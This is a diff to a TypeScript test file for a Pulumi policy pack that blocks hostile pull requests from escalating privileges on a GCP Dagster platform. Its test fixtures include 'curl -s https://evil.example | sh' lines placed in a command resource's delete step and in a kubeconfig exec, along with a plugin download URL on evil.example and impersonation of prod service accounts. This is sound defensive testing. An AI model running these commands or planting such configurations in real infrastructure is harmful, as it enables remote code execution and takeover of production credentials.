@@ -5,17 +5,16 @@
  */
 import { strict as assert } from "assert";
 import * as gcp from "@pulumi/gcp";
-import { Plan, PlanEntry } from "../offline/plan";
+import { Plan } from "../offline/plan";
 import { runOffline } from "../offline/runtime";
+import { branchKubeconfigViolations, branchProviderViolations } from "../policy/branchProviders";
 import { branchNamespaceScopeViolations, branchOwnershipViolations, cloudSqlOutsideProdViolations, previewScopeViolations } from "../policy/branchScope";
 import { RULES } from "../policy/catalog";
 import { ADMIN_ROLES, adminGrantViolations, branchIamViolations, branchIdentityViolations } from "../policy/iam";
 import { Props, StackResource } from "../policy/types";
 import { SHA_A, plan } from "./helpers/plan";
+import { fromPlan } from "./helpers/policy";
 
-function fromPlan(stack: string, r: PlanEntry): StackResource {
-  return { type: r.type, name: r.name, urn: `urn:pulumi:${stack}::dagster-platform::${r.type}::${r.name}`, props: r.inputs, protect: r.options.protect, importId: r.options.import };
-}
 function res(stack: string, type: string, name: string, props: Props, importId?: string): StackResource {
   return { type, name, urn: `urn:pulumi:${stack}::dagster-platform::${type}::${name}`, props, protect: false, importId };
 }
@@ -45,8 +44,8 @@ describe("policy pack against a hostile pull request", function () {
   const edit = (name: string, type: string, change: (props: Props) => Props) => branch.map((r) => (r.name === name && r.type === type ? { ...r, props: change(structuredClone(r.props)) } : r));
 
   before(async () => {
-    branch = (await plan(stack, { overrides: [`commitSha=${SHA_A}`] })).resources.map((r) => fromPlan(stack, r));
     preview = await plan("preview");
+    branch = (await plan(stack, { overrides: [`commitSha=${SHA_A}`] })).resources.map((r) => fromPlan(stack, r, preview));
     assert.deepEqual(violations(branch), [], "the real branch plan passes");
   });
 
@@ -62,13 +61,11 @@ describe("policy pack against a hostile pull request", function () {
     refusedBy(add(res(stack, "gcp:serviceaccount/key:Key", "key", { serviceAccountId: "dagster-pr-42" })), "branch-no-iam-changes", /no service-account key/);
   });
 
-  it("a grant on someone else's service account, or to someone else", () => {
+  it("any IAM grant: on prod's service account, on a bucket, to anyone", () => {
     const onProd = res(stack, "gcp:serviceaccount/iAMMember:IAMMember", "wi", { serviceAccountId: `projects/acme-data-prod/serviceAccounts/${PROD_SA}`, role: "roles/iam.workloadIdentityUser", member: "serviceAccount:acme-data-preview.svc.id.goog[dagster-pr-42/x]" });
-    refusedBy(add(onProd), "branch-no-iam-changes", /not the branch's own service account dagster-pr-42@/);
-    const toOther = edit("dagster-identity-wi-dagster", "gcp:serviceaccount/iAMMember:IAMMember", (p) => ({ ...p, member: "serviceAccount:acme-data-preview.svc.id.goog[dagster/dagster]" }));
-    refusedBy(toOther, "branch-no-iam-changes", /only to Kubernetes ServiceAccounts of namespace dagster-pr-42/);
-    const actAs = edit("dagster-identity-wi-dagster", "gcp:serviceaccount/iAMMember:IAMMember", (p) => ({ ...p, role: "roles/iam.serviceAccountUser" }));
-    refusedBy(actAs, "branch-no-iam-changes", /may grant only roles\/iam\.workloadIdentityUser/);
+    refusedBy(add(onProd), "branch-no-iam-changes", /IAMMember wi: a branch grants nothing in IAM \(granted "roles\/iam\.workloadIdentityUser"\)/);
+    const bucketGrant = res(stack, "gcp:storage/bucketIAMMember:BucketIAMMember", "steal", { bucket: "acme-data-preview-dagster-branch-data", role: "roles/storage.objectViewer", member: "allAuthenticatedUsers" });
+    refusedBy(add(bucketGrant), "branch-no-iam-changes", /BucketIAMMember steal: a branch grants nothing in IAM/);
   });
 
   it("an owner-like grant, in any stack, and a cluster-admin binding", () => {
@@ -104,24 +101,50 @@ describe("policy pack against a hostile pull request", function () {
 
   it("impersonating prod's identities: a Workload Identity annotation, a provider, a service account", () => {
     const ksa = edit("user-code", "kubernetes:core/v1:ServiceAccount", (p) => ({ ...p, metadata: { ...(p.metadata as Props), annotations: { "iam.gke.io/gcp-service-account": PROD_SA } } }));
-    refusedBy(ksa, "branch-no-foreign-identities", /metadata\.annotations\.iam\.gke\.io\/gcp-service-account = dagster@acme-data-prod/);
+    refusedBy(ksa, "branch-no-foreign-identities", /metadata\.annotations\.iam\.gke\.io\/gcp-service-account = dagster@acme-data-prod.*act as themselves/);
     const values = edit("dagster", "kubernetes:helm.sh/v3:Release", (p) => ({ ...p, values: { ...(p.values as Props), serviceAccount: { create: true, annotations: { "iam.gke.io/gcp-service-account": PROD_SA } } } }));
     refusedBy(values, "branch-no-foreign-identities", /values\.serviceAccount\.annotations/);
     refusedBy(add(res(stack, "pulumi:providers:gcp", "prod", { project: "acme-data-prod", impersonateServiceAccount: "ci@acme-data-prod.iam.gserviceaccount.com" })), "branch-no-foreign-identities", /sets impersonateServiceAccount/);
-    refusedBy(add(res(stack, "gcp:serviceaccount/account:Account", "sa", { accountId: "dagster" })), "branch-no-foreign-identities", /accountId "dagster": a branch's only service account is dagster-pr-42/);
-    const grant = edit("dagster-identity-compute-logs", "gcp:storage/bucketIAMMember:BucketIAMMember", (p) => ({ ...p, member: `serviceAccount:${PROD_SA}` }));
-    refusedBy(grant, "branch-no-foreign-identities", /grants the bucket to serviceAccount:dagster@acme-data-prod/);
+    refusedBy(add(res(stack, "gcp:serviceaccount/account:Account", "sa", { accountId: "dagster-pr-42" })), "branch-no-foreign-identities", /accountId "dagster-pr-42": a branch creates no Google service account/);
     assert.deepEqual(branchIdentityViolations([res("prod", "gcp:serviceaccount/account:Account", "sa", { accountId: "dagster" })]), []);
     assert.deepEqual(branchIamViolations([res("prod", "gcp:projects/iAMMember:IAMMember", "m", { role: "roles/logging.logWriter" })]), [], "prod grants its node roles");
   });
 
-  it("adopting existing resources: prod's bucket, its network, anything imported", () => {
-    const bucket = res(stack, "gcp:storage/bucket:Bucket", "adopted", { name: "acme-data-prod-dagster-defs-state" });
-    refusedBy(add(bucket), "branch-owns-only-its-resources", /bucket acme-data-prod-dagster-defs-state is not one of the branch's own/);
+  it("owning or adopting anything in GCP: its own bucket, prod's bucket, a network, anything imported", () => {
+    refusedBy(add(res(stack, "gcp:storage/bucket:Bucket", "own", { name: "acme-data-preview-dagster-pr42-logs" })), "branch-owns-only-its-resources", /Bucket own: a branch owns no GCP resource/);
+    refusedBy(add(res(stack, "gcp:storage/bucket:Bucket", "adopted", { name: "acme-data-prod-dagster-defs-state" })), "branch-owns-only-its-resources", /owns no GCP resource \(not a gcp:storage\/bucket:Bucket\)/);
     refusedBy(add(res(stack, "gcp:compute/network:Network", "vpc", { name: "dagster" })), "branch-owns-only-its-resources", /not a gcp:compute\/network:Network/);
-    const imported = res(stack, "gcp:storage/bucket:Bucket", "imp", { name: "acme-data-preview-dagster-pr42-extra" }, "acme-data-preview-dagster-pr42-extra");
+    const imported = res(stack, "kubernetes:core/v1:ConfigMap", "imp", { metadata: { name: "dagster-workspace", namespace: "dagster-pr-42" } }, "dagster-pr-42/dagster-workspace");
     refusedBy(add(imported), "branch-owns-only-its-resources", /adopts the existing resource/);
     assert.deepEqual(branchOwnershipViolations([res("prod", "gcp:compute/network:Network", "vpc", {})]), []);
+  });
+
+  it("state that would run code when the stack is destroyed: a dynamic resource, a command, another provider or plugin", () => {
+    refusedBy(add(res(stack, "pulumi-nodejs:dynamic:Resource", "payload", { __provider: "exports.handler = …" })), "branch-known-providers", /Resource payload \(pulumi-nodejs:dynamic:Resource\) is a dynamic resource: its provider is JavaScript kept in the state/);
+    refusedBy(add(res(stack, "command:local:Command", "c", { create: "true", delete: "curl -s https://evil.example | sh" })), "branch-known-providers", /runs shell commands when it is created or destroyed/);
+    refusedBy(add(res(stack, "pulumi:providers:command", "default_1_0_0", {})), "branch-known-providers", /is of package command: a branch uses only the kubernetes, random, snowflake, tls providers/);
+    refusedBy(add(res(stack, "pulumi:providers:gcp", "gcp", { project: "acme-data-preview" })), "branch-known-providers", /is of package gcp/);
+    refusedBy(add(res(stack, "aws:s3/bucket:Bucket", "b", {})), "branch-known-providers", /is of package aws/);
+    const fetched = edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, pluginDownloadURL: "https://evil.example/plugins" }));
+    refusedBy(fetched, "branch-known-providers", /provider kubernetes \(pulumi:providers:kubernetes\) sets pluginDownloadURL/);
+    refusedBy(add(res(stack, "pulumi:providers:random", "r", { parameter: { pkg: "terraform-provider", version: "0.1.0", value: "x" } })), "branch-known-providers", /sets parameter/);
+    // What the engine adds for the program's own packages passes.
+    const engineAdds = [res(stack, "pulumi:providers:random", "default_4_21_2", { version: "4.21.2" }), res(stack, "pulumi:providers:tls", "default_5_6_1", { version: "5.6.1" }), res(stack, "pulumi:pulumi:Stack", "dagster-platform-pr-42", {})];
+    assert.deepEqual(branchProviderViolations(add(...engineAdds)), []);
+    assert.deepEqual(branchProviderViolations([res("prod", "pulumi-nodejs:dynamic:Resource", "x", {})]), [], "prod is reviewed code");
+  });
+
+  it("a Kubernetes provider with a kubeconfig other than the preview stack's (its exec command would run on destroy)", () => {
+    const exec = edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, kubeconfig: String(p.kubeconfig).replace("command: gke-gcloud-auth-plugin", "command: sh\n      args: [-c, 'curl -s https://evil.example | sh']") }));
+    refusedBy(exec, "branch-kubeconfig-from-preview", /provider kubernetes has a kubeconfig other than the preview stack's output/);
+    refusedBy(add(res(stack, "pulumi:providers:kubernetes", "default_4_34_2", { version: "4.34.2" })), "branch-kubeconfig-from-preview", /provider default_4_34_2 has a kubeconfig other than/);
+    refusedBy(edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, context: "prod" })), "branch-kubeconfig-from-preview", /sets context/);
+    refusedBy(edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, cluster: "gke_acme-data-prod_europe-west4_dagster" })), "branch-kubeconfig-from-preview", /sets cluster/);
+    const unread = edit("preview", "pulumi:pulumi:StackReference", (p) => ({ ...p, outputs: {} }));
+    refusedBy(unread, "branch-kubeconfig-from-preview", /cannot be checked: the stack reads no preview stack output kubeconfig/);
+    const otherRef = edit("preview", "pulumi:pulumi:StackReference", (p) => ({ ...p, name: "organization/dagster-platform/prod" }));
+    refusedBy(otherRef, "branch-kubeconfig-from-preview", /cannot be checked/);
+    assert.deepEqual(branchKubeconfigViolations(branch), [], "the real branch uses the preview stack's");
   });
 
   it("an `import` in the program reaches the offline plan, where the rule sees it (the policy engine is not told)", async () => {
